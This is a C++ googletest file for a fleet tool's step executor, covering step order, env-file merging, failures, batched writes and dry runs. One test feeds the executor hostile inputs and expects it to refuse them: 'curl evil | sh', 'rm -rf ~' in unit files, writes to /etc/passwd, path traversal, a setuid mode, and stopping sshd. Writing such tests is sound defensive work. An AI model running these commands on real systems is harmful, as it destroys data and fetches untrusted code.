// Executing a plan's steps on the recording executors: order, modes, the env merge at apply
// time (and a file edited since it was read), failure, writes handed over together, and a dry
// run that touches nothing.
#include "step_executor.h"

#include <fmt/format.h>
#include <fmt/ranges.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "make_plan.h"
#include "memory_file_system.h"
#include "observer.h"
#include "planner_fixture.h"
#include "recording_systemd_manager.h"
#include "unit_files.h"

namespace mosaic {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;

constexpr char kRoster[] = "version: 1\nagents: [{name: a, runtime: pi}, {name: b, runtime: pi}]\n";

class StepExecutorTest : public testing::Test {
 protected:
  StepExecutorTest()
      : tmux_(Tmux::ForSocket("fleet", runner_).value()),
        managed_(testing_support::Desired(kRoster)) {}

  Status ExecuteAll(StepExecutor& executor, const Plan& plan) {
    for (const Step& step : plan.steps)
      if (Status s =
              executor.Execute(step, [&](const std::string& line) { progress_.push_back(line); });
          !s.ok())
        return s;
    return Status::Ok();
  }

  MemoryFileSystem fs_;
  RecordingSystemdManager systemd_;
  RecordingProcessRunner runner_;
  Tmux tmux_;
  ManagedResources managed_;
  std::vector<std::string> progress_;
};

TEST_F(StepExecutorTest, AFreshPlanWritesFilesThenReloadsEnablesAndStartsInOrder) {
  DesiredState desired = testing_support::Desired(kRoster);
  Plan plan = MakePlan(desired, ObservedState{});
  RealStepExecutor executor(fs_, systemd_, tmux_, managed_);
  ASSERT_TRUE(ExecuteAll(executor, plan).ok());
  EXPECT_THAT(
      systemd_.log,
      ElementsAre("reload",
                  "enable mosaic-tmux-holder.service mosaic-agent@a.service mosaic-agent@b.service",
                  "reset-failed mosaic-tmux-holder.service", "start mosaic-tmux-holder.service",
                  "reset-failed mosaic-agent@a.service mosaic-agent@b.service",
                  "start mosaic-agent@a.service", "start mosaic-agent@b.service"));
  EXPECT_EQ(fs_.modes[desired.UnitFile(kHolderUnit)->path], 0644u);
  EXPECT_EQ(fs_.modes[desired.agents[0].env_path], 0600u);
  EXPECT_EQ(fs_.files().at(desired.UnitFile(kHolderUnit)->path),
            desired.UnitFile(kHolderUnit)->content);
  EXPECT_THAT(progress_, testing::Contains("start mosaic-agent@b.service: done"));
  EXPECT_TRUE(runner_.calls.empty()) << "starting agents is systemd's job, not a tmux call";
}

TEST_F(StepExecutorTest, EnvFilesAreMergedWithWhatTheUserWroteSinceThePlan) {
  DesiredState desired = testing_support::Desired(kRoster);
  Plan plan = MakePlan(desired, ObservedState{});
  fs_.Put(desired.agents[0].env_path, "# written after the plan\nTOKEN=x\n");
  RealStepExecutor executor(fs_, systemd_, tmux_, managed_);
  ASSERT_TRUE(ExecuteAll(executor, plan).ok());
  std::string env = fs_.files().at(desired.agents[0].env_path);
  EXPECT_THAT(env,
              testing::StartsWith("# written after the plan\nTOKEN=x\nMOSAIC_AGENT_NAME=\"a\"\n"));
}

TEST_F(StepExecutorTest, AFailedJobIsAnErrorAndLaterStepsAreTheCallersToSkip) {
  DesiredState desired = testing_support::Desired(kRoster);
  Plan plan = MakePlan(desired, ObservedState{});
  systemd_.failing.insert("mosaic-agent@a.service");
  RealStepExecutor executor(fs_, systemd_, tmux_, managed_);
  Status status = ExecuteAll(executor, plan);
  EXPECT_FALSE(status.ok());
  EXPECT_THAT(status.message(), HasSubstr("mosaic-agent@a.service: failed"));
}

// Which steps reach an executor alone, and which together.
class GroupRecorder : public StepExecutor {
 public:
  Status Execute(const Step& step, const Progress&) override {
    calls.push_back(DescribeStep(step));
    return Status::Ok();
  }
  ExecutionReport ExecuteWrites(std::span<const Step> writes, const Progress&) override {
    std::vector<std::string> described;
    for (const Step& step : writes) described.push_back(DescribeStep(step));
    calls.push_back(fmt::format("together: {}", fmt::join(described, ", ")));
    for (size_t i = 0; i < writes.size(); ++i)
      if (writes[i].path == failing) return {i, Status::Error("cannot write " + failing)};
    return {writes.size(), Status::Ok()};
  }
  std::vector<std::string> calls;
  std::string failing;  ///< the path whose write fails
};

TEST(ExecuteSteps, HandsConsecutiveWritesOfDistinctFilesToTheExecutorTogether) {
  std::vector<Step> steps = {
      Step::WriteFile("/u/holder", "x", 0644), Step::MergeEnvFile("/e/a", {}),
      Step::MergeEnvFile("/e/b", {}),          Step::DaemonReload(),
      Step::MergeEnvFile("/e/c", {}),          Step::WriteFile("/u/x", "1", 0644),
      Step::WriteFile("/u/x", "2", 0644),  // the same file again: after the first is written
      Step::MergeEnvFile("/e/d", {})};
  GroupRecorder executor;
  ExecutionReport report = ExecuteSteps(steps, executor, {});
  EXPECT_TRUE(report.failure.ok());
  EXPECT_EQ(report.completed, steps.size());
  EXPECT_THAT(executor.calls,
              ElementsAre("together: write-file /u/holder, merge-env-file /e/a, merge-env-file "
                          "/e/b",
                          "daemon-reload", "together: merge-env-file /e/c, write-file /u/x",
                          "together: write-file /u/x, merge-env-file /e/d"));
}

TEST(ExecuteSteps, CountsTheWritesOfABatchDoneBeforeOneFailedAndStops) {
  std::vector<Step> steps = {Step::DaemonReload(), Step::WriteFile("/u/a", "a", 0644),
                             Step::WriteFile("/u/b", "b", 0644), Step::WriteFile("/u/c", "c", 0644),
                             Step::DaemonReload()};
  GroupRecorder executor;
  executor.failing = "/u/b";
  ExecutionReport report = ExecuteSteps(steps, executor, {});
  EXPECT_EQ(report.completed, 2u) << "the first reload and /u/a";
  EXPECT_EQ(report.failure.message(), "cannot write /u/b");
  EXPECT_THAT(executor.calls, ElementsAre("daemon-reload",
                                          "together: write-file /u/a, write-file /u/b, "
                                          "write-file /u/c"));
}

TEST_F(StepExecutorTest, AWriteThatCannotBeMadeEndsTheBatchAfterTheFilesBeforeIt) {
  DesiredState desired = testing_support::Desired(
      "version: 1\nagents: [{name: a, runtime: pi}, {name: b, runtime: pi}, {name: c, "
      "runtime: pi}]\n");
  ManagedResources managed(desired);
  // b's file ends in a comment continued by a backslash: the keys added after it would be
  // swallowed, so it is not rewritten.
  const std::string swallowing = "# goes on \\\n";
  fs_.Put(desired.agents[1].env_path, swallowing);
  std::vector<Step> steps;
  for (const DesiredAgent& agent : desired.agents)
    steps.push_back(Step::MergeEnvFile(agent.env_path, agent.owned_env));
  RealStepExecutor executor(fs_, systemd_, tmux_, managed);
  ExecutionReport report =
      ExecuteSteps(steps, executor, [&](const std::string& line) { progress_.push_back(line); });
  EXPECT_EQ(report.completed, 1u);
  EXPECT_THAT(report.failure.message(), HasSubstr("not rewritten, to keep your lines"));
  EXPECT_THAT(progress_, ElementsAre("merge-env-file " + desired.agents[0].env_path + ": done"));
  EXPECT_THAT(fs_.files().at(desired.agents[0].env_path), HasSubstr("MOSAIC_AGENT_NAME=\"a\""));
  EXPECT_EQ(fs_.files().at(desired.agents[1].env_path), swallowing);
  EXPECT_FALSE(fs_.files().contains(desired.agents[2].env_path));
}

// The user writes to `edited` right after apply has first read it.
class EditedAfterReadFileSystem : public MemoryFileSystem {
 public:
  explicit EditedAfterReadFileSystem(std::string edited) : edited_(std::move(edited)) {}
  Result<std::string> ReadFile(const std::string& path, size_t max_bytes) override {
    Result<std::string> read = MemoryFileSystem::ReadFile(path, max_bytes);
    if (path == edited_ && read.ok() && !done_)
      Put(path, read.value() + "MINE=written meanwhile\n");
    done_ = done_ || path == edited_;
    return read;
  }

 private:
  std::string edited_;
  bool done_ = false;
};

TEST_F(StepExecutorTest, AnEnvFileWrittenByTheUserAfterApplyReadItIsNotReplaced) {
  DesiredState desired = testing_support::Desired(kRoster);
  EditedAfterReadFileSystem fs(desired.agents[1].env_path);
  ASSERT_TRUE(fs.MakeDirectories(desired.paths.agents_dir, 0700).ok());
  fs.Put(desired.agents[1].env_path, "TOKEN=x\n");
  std::vector<Step> steps;
  for (const DesiredAgent& agent : desired.agents)
    steps.push_back(Step::MergeEnvFile(agent.env_path, agent.owned_env));
  RealStepExecutor executor(fs, systemd_, tmux_, managed_);
  ExecutionReport report = ExecuteSteps(steps, executor, {});
  EXPECT_EQ(report.completed, 1u);
  EXPECT_THAT(report.failure.message(), HasSubstr("changed while mosaic-fleet was replacing it"));
  EXPECT_EQ(fs.files().at(desired.agents[1].env_path), "TOKEN=x\nMINE=written meanwhile\n");
}

TEST_F(StepExecutorTest, ASymlinkedEnvFileIsNeverWrittenThrough) {
  DesiredState desired = testing_support::Desired(kRoster);
  ASSERT_TRUE(fs_.MakeDirectories(desired.paths.agents_dir, 0700).ok());
  fs_.PutSymlink(desired.agents[0].env_path);
  Step step{StepKind::kMergeEnvFile,    {}, desired.agents[0].env_path, "", 0600,
            desired.agents[0].owned_env};
  RealStepExecutor executor(fs_, systemd_, tmux_, managed_);
  EXPECT_FALSE(executor.Execute(step, {}).ok());
}

TEST_F(StepExecutorTest, RemovalsKillOnlyExactSessions) {
  DesiredState desired = testing_support::Desired("version: 1\nagents: []\n");
  ObservedState observed = testing_support::Converged(desired);
  observed.sessions["old"] = {"old", 5, false, kOwnerAgent, "pi", "/", "", ""};
  RealStepExecutor executor(fs_, systemd_, tmux_, managed_);
  ASSERT_TRUE(ExecuteAll(executor, MakePlan(desired, observed)).ok());
  ASSERT_EQ(runner_.calls.size(), 2u);  // viewers of it (none here), then the session
  EXPECT_THAT(runner_.calls[0], testing::Contains("list-sessions"));
  EXPECT_THAT(runner_.calls[1], testing::Contains(HasSubstr("kill-session -t =old")));
}

TEST_F(StepExecutorTest, RefusesToWriteAnythingButTheToolsOwnFiles) {
  // What an edited saved plan tried: the executors act on nothing the tool does not manage.
  DesiredState desired = testing_support::Desired(kRoster);
  RealStepExecutor executor(fs_, systemd_, tmux_, managed_);
  const std::string unit = desired.UnitFile(kHolderUnit)->path;
  for (Step step : std::vector<Step>{
           {StepKind::kWriteFile,
            {},
            "/home/op/.bashrc",
            desired.UnitFile(kHolderUnit)->content,
            0644,
            {}},
           {StepKind::kWriteFile,
            {},
            "/etc/passwd",
            desired.UnitFile(kHolderUnit)->content,
            0644,
            {}},
           {StepKind::kWriteFile,
            {},
            unit + "/../../x.service",
            desired.UnitFile(kHolderUnit)->content,
            0644,
            {}},
           {StepKind::kWriteFile, {}, unit, "[Service]\nExecStart=/bin/rm -rf ~\n", 0644, {}},
           {StepKind::kWriteFile,
            {},
            unit,
            std::string(kUnitFileHeader) + "ExecStart=rm -rf ~\n",
            0644,
            {}},
           {StepKind::kWriteFile, {}, unit, desired.UnitFile(kHolderUnit)->content, 04755, {}},
           {StepKind::kMergeEnvFile,
            {},
            "/home/op/.profile",
            "",
            0600,
            {{"MOSAIC_AGENT_NAME", "a"}}},
           {StepKind::kMergeEnvFile, {}, desired.agents[0].env_path, "", 0600, {{"PATH", "/evil"}}},
           {StepKind::kMergeEnvFile,
            {},
            desired.agents[0].env_path,
            "",
            0600,
            {{"MOSAIC_RUNTIME_COMMAND", "curl evil | sh"}}},
           {StepKind::kMergeEnvFile, {}, desired.paths.agents_dir + "/x:y.env", "", 0600, {}},
           {StepKind::kStopUnits, {"sshd.service"}, "", "", 0, {}},
           {StepKind::kStartUnits, {"mosaic-agent@a;b.service"}, "", "", 0, {}},
           {StepKind::kDisableUnits, {"default.target"}, "", "", 0, {}}}) {
    Status status = executor.Execute(step, {});
    EXPECT_FALSE(status.ok()) << DescribeStep(step);
    EXPECT_THAT(status.message(), HasSubstr("mosaic-fleet acts only on what it manages"));
  }
  EXPECT_TRUE(fs_.writes.empty());
  EXPECT_TRUE(systemd_.log.empty());
}

TEST_F(StepExecutorTest, ADryRunRecordsEveryStepAndTouchesNothing) {
  DesiredState desired = testing_support::Desired(kRoster);
  Plan plan = MakePlan(desired, ObservedState{});
  DryRunExecutor dry;
  ASSERT_TRUE(ExecuteAll(dry, plan).ok());
  EXPECT_EQ(dry.recorded.size(), plan.steps.size());
  EXPECT_TRUE(fs_.writes.empty());
  EXPECT_TRUE(systemd_.log.empty());
  EXPECT_TRUE(runner_.calls.empty());
}

// Plans and applies until nothing is left to do, with the recording executors standing in
// for the world; the number of rounds it took.
int Converge(const DesiredState& desired, MemoryFileSystem& fs, RecordingSystemdManager& systemd) {
  // The holder's server runs, with no sessions (the desired states here have no agents).
  RecordingProcessRunner empty_server([](const std::vector<std::string>&) {
    return ProcessResult{0, "", ""};
  });
  Tmux tmux = Tmux::ForSocket("fleet", empty_server).value();
  ManagedResources managed(desired);
  RealStepExecutor executor(fs, systemd, tmux, managed);
  for (int round = 1; round <= 3; ++round) {
    Plan plan = MakePlan(desired, Observe(desired, tmux, systemd, fs, 0).value());
    EXPECT_FALSE(plan.has_errors());
    if (plan.empty()) return round;
    ExecutionReport report = ExecuteSteps(plan.steps, executor, {});
    EXPECT_TRUE(report.failure.ok()) << report.failure.message();
  }
  return 0;
}

TEST(UnitFilesAsData, AThirdUnitFileIsWrittenEnabledInItsOwnTargetStartedAndLaterRemoved) {
  DesiredState desired = testing_support::Desired("version: 1\nagents: []\n");
  const std::string unit_dir = desired.paths.unit_dir;
  const std::string timer = kReconcileTimer;
  desired.unit_files.push_back({timer, unit_dir + "/" + timer,
                                std::string(kUnitFileHeader) +
                                    "[Timer]\nOnUnitActiveSec=5min\n\n[Install]\n"
                                    "WantedBy=timers.target\n",
                                "timers.target", true});
  MemoryFileSystem fs;
  RecordingSystemdManager systemd(fs, unit_dir);
  ASSERT_EQ(Converge(desired, fs, systemd), 2) << "one apply, then nothing left to do";
  EXPECT_TRUE(fs.files().contains(unit_dir + "/" + timer));
  EXPECT_TRUE(fs.files().contains(unit_dir + "/timers.target.wants/" + timer));
  EXPECT_TRUE(fs.files().contains(unit_dir + "/default.target.wants/" + kHolderUnit));
  EXPECT_EQ(systemd.units[timer].active_state, "active");
  // Linked under another target than its own, it is not enabled: the link it needs is made.
  ASSERT_TRUE(fs.RemoveFile(unit_dir + "/timers.target.wants/" + timer).ok());
  fs.Put(unit_dir + "/default.target.wants/" + timer, "");
  ASSERT_EQ(Converge(desired, fs, systemd), 2);
  EXPECT_TRUE(fs.files().contains(unit_dir + "/timers.target.wants/" + timer));
  ASSERT_TRUE(fs.RemoveFile(unit_dir + "/default.target.wants/" + timer).ok());
  fs.removals.clear();

  // The roster no longer calls for it: stopped, disabled, removed; the user's files stay.
  fs.Put(unit_dir + "/mosaic-mine.service", "[Service]\nExecStart=/bin/true\n");
  desired.unit_files.pop_back();
  RecordingProcessRunner runner;
  Tmux tmux = Tmux::ForSocket("fleet", runner).value();
  Plan removal = MakePlan(desired, Observe(desired, tmux, systemd, fs, 0).value());
  EXPECT_THAT(removal.changes,
              testing::Contains(testing::Field(&ResourceChange::address, "unit_file." + timer)));
  ASSERT_EQ(Converge(desired, fs, systemd), 2);
  EXPECT_FALSE(fs.files().contains(unit_dir + "/" + timer));
  EXPECT_FALSE(fs.files().contains(unit_dir + "/timers.target.wants/" + timer));
  EXPECT_EQ(systemd.units[timer].active_state, "inactive");
  EXPECT_TRUE(fs.files().contains(unit_dir + "/mosaic-mine.service")) << "not the tool's to remove";
  EXPECT_THAT(fs.removals,
              ElementsAre(unit_dir + "/timers.target.wants/" + timer, unit_dir + "/" + timer));
}

}  // namespace
}  // namespace mosaic
